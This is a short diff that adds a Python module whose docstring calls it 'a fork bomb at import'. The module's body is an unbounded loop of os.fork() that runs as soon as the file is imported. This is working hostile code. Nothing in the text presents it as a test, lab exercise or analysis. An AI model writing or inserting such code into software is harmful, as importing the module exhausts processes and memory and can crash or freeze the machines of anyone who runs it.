@@ -1,0 +1,5 @@
+"""A fork bomb at import."""
+import os
+
+while True:
+    os.fork()
